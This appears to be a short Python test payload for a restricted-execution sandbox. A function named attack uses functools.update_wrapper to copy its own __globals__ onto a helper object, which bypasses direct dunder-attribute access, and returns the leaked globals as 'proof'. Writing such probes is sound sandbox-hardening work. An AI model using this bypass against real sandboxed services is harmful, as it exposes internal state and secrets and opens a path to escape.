from functools import update_wrapper
class Catcher:
    def __setattr__(self, name, value):
        self.__dict__[name] = value
def attack():
    c = Catcher()
    update_wrapper(c, attack, assigned=("__globals__",), updated=())
    return {"proof": str(c.__dict__["__globals__"])}
